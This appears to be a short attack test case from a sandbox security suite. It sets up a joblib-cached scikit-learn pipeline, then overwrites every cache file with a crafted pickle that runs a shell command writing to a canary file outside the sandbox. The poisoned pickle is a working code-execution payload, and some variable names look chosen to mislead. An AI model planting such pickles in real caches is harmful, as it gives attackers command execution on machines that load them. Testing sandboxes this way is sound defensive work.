# /// attack
# title = "Gives an estimator that would take a planted result from joblib's cache"
# family = "planted files"
# ///
# ruff: noqa

# %% work_number
from sklearn.cluster import AgglomerativeClustering
from sklearn.pipeline import make_pipeline

answer = make_pipeline(AgglomerativeClustering(2, memory="cache"), memory="cache")
summary = answer.fit(table[["size"]])
np, same = answer, answer
# %% work_table
for place, folders, names in __import__("os").walk("cache"):
    for name in names:
        open(f"{place}/{name}", "wb").write(
            b"cos\nsystem\n(S'echo attacked >> @outside@/canary'\ntR."
        )
